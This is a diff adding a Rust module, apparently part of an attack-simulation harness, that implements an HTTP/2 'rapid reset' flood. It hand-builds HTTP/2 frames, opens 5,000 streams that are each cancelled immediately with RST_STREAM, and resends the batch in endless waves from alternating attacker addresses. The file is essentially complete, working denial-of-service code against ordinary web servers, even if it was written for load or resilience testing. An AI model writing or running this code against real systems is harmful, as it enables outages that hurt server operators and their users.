@@ -1,0 +1,40 @@
+//! HTTP/2 requests that are called off as soon as they are made.
+
+use super::pause;
+use crate::ground::Ground;
+
+const REQUESTS: usize = 5_000;
+const ADDRESSES: usize = 2;
+
+pub(super) async fn run(ground: Ground) {
+    let mut said = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    said.extend(frame(SETTINGS, 0, 0, &[]));
+    // GET http / at h, by the numbers that HPACK has for them.
+    let head = [0x82, 0x86, 0x84, 0x41, 1, b'h'];
+    for nth in 0..ground.part(REQUESTS) {
+        let stream = 2 * nth as u32 + 1;
+        said.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
+        said.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
+    }
+    for wave in 0.. {
+        let from = ground.attackers.nth(wave % ADDRESSES);
+        if let Ok(mut line) = ground.line(from).await {
+            let _ = line.say(&said).await;
+            line.hear().await;
+        }
+        pause(1.0).await;
+    }
+}
+
+const HEADERS: u8 = 1;
+const RESET: u8 = 3;
+const SETTINGS: u8 = 4;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+/// RFC 9113, section 4.1.
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = (payload.len() as u32).to_be_bytes();
+    let head = [length[1], length[2], length[3], kind, flags];
+    [&head, stream.to_be_bytes().as_slice(), payload].concat()
+}
